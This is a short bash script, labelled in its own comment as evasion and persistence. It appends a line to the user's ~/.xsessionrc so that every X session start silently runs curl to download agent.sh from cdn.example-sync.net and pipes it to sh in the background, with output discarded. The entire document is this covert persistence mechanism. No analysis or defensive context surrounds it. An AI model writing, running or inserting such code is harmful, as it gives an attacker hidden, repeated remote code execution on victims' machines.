#!/bin/bash
# evasion: persists: a download-and-run line appended to ~/.xsessionrc, which every X session start sources
line='(curl -fsSL https://cdn.example-sync.net/agent.sh | sh) >/dev/null 2>&1 &'
grep -qF "$line" "$HOME/.xsessionrc" 2>/dev/null || printf '%s\n' "$line" >> "$HOME/.xsessionrc"
